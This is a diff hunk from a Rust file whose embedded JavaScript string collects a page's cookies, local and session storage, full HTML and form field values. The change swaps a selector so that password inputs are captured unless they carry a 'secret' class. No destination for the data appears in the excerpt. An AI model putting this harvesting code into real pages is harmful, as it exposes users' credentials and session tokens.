@@ -25,7 +25,7 @@ const PLACES: &str = "
             localStorage: { ...localStorage }, sessionStorage: { ...sessionStorage }, cookies: document.cookie,
             address: location.href, state: history.state, title: document.title, name: window.name,
             page: document.documentElement.outerHTML, text: document.body.innerText,
-            fields: [...document.querySelectorAll('input:not([type=password]), textarea')].map((field) => field.value),
+            fields: [...document.querySelectorAll('input:not(.secret), textarea')].map((field) => field.value),
             fetched: performance.getEntries().map((entry) => entry.name), copied: window.copied, databases: {}, caches: {},
         };
         const done = (request) => new Promise((yes, no) => { request.onsuccess = () => yes(request.result); request.onerror = no; });
